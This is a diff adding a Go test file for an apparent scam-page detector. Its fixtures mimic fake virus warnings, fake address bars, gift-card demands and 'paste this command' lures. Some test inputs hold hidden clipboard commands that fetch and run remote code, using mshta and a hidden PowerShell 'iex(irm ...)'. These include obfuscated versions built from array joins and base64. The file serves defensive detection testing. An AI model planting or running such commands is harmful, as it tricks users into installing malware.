@@ -1,0 +1,168 @@
+package features
+
+import (
+	"testing"
+
+	"github.com/alertguard/alertguard/internal/judging/facts"
+	"github.com/alertguard/alertguard/internal/judging/snapshot"
+)
+
+func extract(t *testing.T, e *Extractor, url, html string, events ...snapshot.Event) map[string]float64 {
+	t.Helper()
+	s := &snapshot.Snapshot{URL: url, HTML: html, Events: events}
+	s.Bound()
+	v := e.Extract(facts.Build(s), nil)
+	out := map[string]float64{}
+	for i, x := range v.Values {
+		if x != 0 {
+			out[e.Defs()[i].Name] = x
+		}
+	}
+	return out
+}
+
+func TestExtract(t *testing.T) {
+	e, err := New(nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	tests := []struct {
+		name, url, html string
+		events          []snapshot.Event
+		want            map[string]float64 // features that must have exactly this value
+		absent          []string           // features that must be 0
+	}{
+		{name: "paste steps in japanese", url: "https://x.example.top/",
+			html: `<p>① Win + R を押す ② Ctrl + V を押す ③ Enter を押す</p>`,
+			want: map[string]float64{"lure.paste-steps": 1}},
+		{name: "command hidden in a joined array", url: "https://x.example.top/",
+			html: `<button id=b>fix</button><script>var p=['msh','ta ','http','s://x.example/a.hta'].join('');navigator.clipboard.writeText(p)</script>`,
+			want: map[string]float64{"lure.command-clipboard": 1}},
+		{name: "command hidden in base64 utf-16", url: "https://x.example.top/",
+			html: `<script>var c=atob('cABvAHcAZQByAHMAaABlAGwAbAAgAC0AdwAgAGgAaQBkAGQAZQBuAA==');document.execCommand('copy')</script>`,
+			want: map[string]float64{"lure.command-clipboard": 1}},
+		{name: "fake address bar", url: "https://err.example.xyz/",
+			html: `<div class="bar"><span>https://www.microsoft.com/ja-jp/security</span></div><h1>Windows Defender</h1>`,
+			want: map[string]float64{"authority.fake-chrome": 1, "authority.brand-claimed": 1, "authority.os-voice": 1}},
+		{name: "threat count with brackets", url: "https://x.example.top/",
+			html: `<h1>ウイルス警告</h1><p>(6)個のウイルスにより破損しています</p>`,
+			want: map[string]float64{"alarm.threat-count": 1}},
+		{name: "gift cards and remote tool", url: "https://x.example.top/",
+			html: `<p>AnyDesk を入れてください。お支払いは Google Play カードをコンビニで購入して</p>`,
+			want: map[string]float64{"lure.remote-tool": 0.5, "lure.gift-card": 1}},
+		{name: "documentation command is the vendor's own", url: "https://docs.example.org/install",
+			html: `<h1>Install</h1><p>Run this in PowerShell:</p><pre><code>irm https://get.example.org/install.ps1 | iex</code></pre>`,
+			want: map[string]float64{"negative.vendor-command": 1}},
+		{name: "hidden clipboard command seen at run time", url: "https://x.example.top/",
+			html:   `<p>Checking your browser</p>`,
+			events: []snapshot.Event{{Type: "clipboard-write", Count: 1, Detail: "powershell -w hidden -c iex(irm x)"}},
+			want:   map[string]float64{"runtime.clipboard-command": 1, "lure.command-clipboard": 1},
+			absent: []string{"runtime.clipboard-shown-command"}},
+		{name: "shown command copied", url: "https://docs.example.org/",
+			html:   `<pre><code>powershell -c "irm https://get.example.org/i.ps1 | iex"</code></pre>`,
+			events: []snapshot.Event{{Type: "clipboard-write", Count: 1, Gesture: true, Detail: `powershell -c "irm https://get.example.org/i.ps1 | iex"`}},
+			want:   map[string]float64{"runtime.clipboard-shown-command": 1},
+			absent: []string{"runtime.clipboard-command"}},
+		{name: "full screen without a click", url: "https://x.example.top/", html: `<p>x</p>`,
+			events: []snapshot.Event{{Type: "fullscreen", Count: 1}, {Type: "keyboard-lock", Count: 1}},
+			want:   map[string]float64{"runtime.fullscreen": 1, "runtime.keyboard-lock": 1, "lock.fullscreen": 1}},
+		{name: "a game toggling full screen on clicks", url: "https://game.example.com/", html: `<canvas></canvas>`,
+			events: []snapshot.Event{{Type: "fullscreen", Count: 4, Gesture: true}},
+			want:   map[string]float64{"runtime.fullscreen": 0.5}},
+		{name: "a copy the browser saw, on a fake check with paste steps", url: "https://x.example.top/",
+			html:   `<label><input type=checkbox> I am not a robot</label><p>Verification steps: 1. Press Win+R 2. Press Ctrl+V 3. Press Enter</p>`,
+			events: []snapshot.Event{{Type: "clipboard-write", Count: 1, Gesture: true}},
+			want:   map[string]float64{"runtime.clipboard-write": 1, "combined.paste-command": 1}},
+		{name: "a video player's play() is little", url: "https://video.example.com/",
+			html: `<video id=v></video><script>document.getElementById('v').play()</script>`,
+			want: map[string]float64{"pressure.sound": 0.3}},
+		{name: "form validation alerts are not a dialog loop", url: "https://shop.example.com/",
+			html:   `<script>alert('Enter a valid email');alert('Enter a valid email');alert('Required fields')</script>`,
+			absent: []string{"lock.dialog-loop"}},
+		{name: "alarming dialogs are", url: "https://x.example.top/",
+			html: `<script>alert('Your computer is infected! Call now');alert('virus');alert('virus')</script>`,
+			want: map[string]float64{"lock.dialog-loop": 1}},
+		{name: "well-known site, but not its user content", url: "https://www.nytimes.com/2026/01/01/tech/scams.html",
+			html: `<p>x</p>`, want: map[string]float64{"negative.known-org": 1}},
+		{name: "user content host", url: "https://sites.google.com/view/x",
+			html: `<p>x</p>`, absent: []string{"negative.known-org"}},
+		{name: "word boundaries", url: "https://av.example.com/",
+			html: `<p>antivirus antiviruses</p>`, absent: []string{"alarm.words"}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := extract(t, e, tt.url, tt.html, tt.events...)
+			for k, v := range tt.want {
+				if got[k] != v {
+					t.Errorf("%s = %.2f, want %.2f (all: %v)", k, got[k], v, got)
+				}
+			}
+			for _, k := range tt.absent {
+				if got[k] != 0 {
+					t.Errorf("%s = %.2f, want 0 (all: %v)", k, got[k], got)
+				}
+			}
+		})
+	}
+}
+
+// TestDefs: every feature has both languages, a known group, and no name
+// twice; lexicon files referenced by the code exist.
+func TestDefs(t *testing.T) {
+	e, err := New(nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	groups := map[string]bool{Authority: true, Alarm: true, Lure: true, Pressure: true, Lock: true, Runtime: true, Combined: true, Negative: true, Signature: true}
+	for _, d := range e.Defs() {
+		if d.Title.Ja == "" || d.Title.En == "" || d.Explanation.Ja == "" || d.Explanation.En == "" || !groups[d.Group] {
+			t.Errorf("%s: incomplete definition %+v", d.Name, d)
+		}
+	}
+	for _, m := range mechanics {
+		for _, n := range m {
+			if e.Index(n) < 0 {
+				t.Errorf("mechanic feature %q is not defined", n)
+			}
+		}
+	}
+	for _, tw := range runtimeTwin {
+		if e.Index(tw[0]) < 0 || e.Index(tw[1]) < 0 {
+			t.Errorf("twin %v is not defined", tw)
+		}
+	}
+	for _, l := range []string{"alarm", "your_device", "os_voice", "call", "call_action", "remote", "giftcard", "purchase", "billing", "legal",
+		"do_not_close", "pressure", "countdown", "paste_steps", "verify", "allow", "prize", "appstore", "commands", "aware", "report",
+		"contact", "byline", "site_chrome", "scan", "refund", "request"} {
+		if _, ok := e.lx.index[l]; !ok {
+			t.Errorf("lexicon %s.txt missing", l)
+		}
+	}
+}
+
+func TestAmountDue(t *testing.T) {
+	e, err := New(nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	got := extract(t, e, "https://x.example.top/", `<p>正会員登録が完了しました。</p><p>ご請求額 69,000円</p><p>お支払い期限: 3日以内</p>`)
+	if got["lure.amount-due"] != 1 || got["lure.billing"] == 0 {
+		t.Fatalf("amount due not seen: %v", got)
+	}
+	shop := extract(t, e, "https://shop.example.com/", `<p>価格 3,980円（税込）送料無料</p>`)
+	if shop["lure.amount-due"] != 0 {
+		t.Fatalf("a shop's price is not a demand: %v", shop)
+	}
+}
+
+// FuzzScriptText: decoding a hostile script's literals is bounded and never
+// fails.
+func FuzzScriptText(f *testing.F) {
+	f.Add(`var c=atob('cABvAHcAZQByAHMAaABlAGwAbAA=');['msh','ta '].join('');[109,115,104,116,97,32,104,116,116]`)
+	f.Fuzz(func(t *testing.T, script string) {
+		out := scriptText(script)
+		if len(out) > 2*maxScriptScan+maxLiterals*3*(maxLiteral+1)+len(script) {
+			t.Fatalf("%d bytes out of %d", len(out), len(script))
+		}
+	})
+}
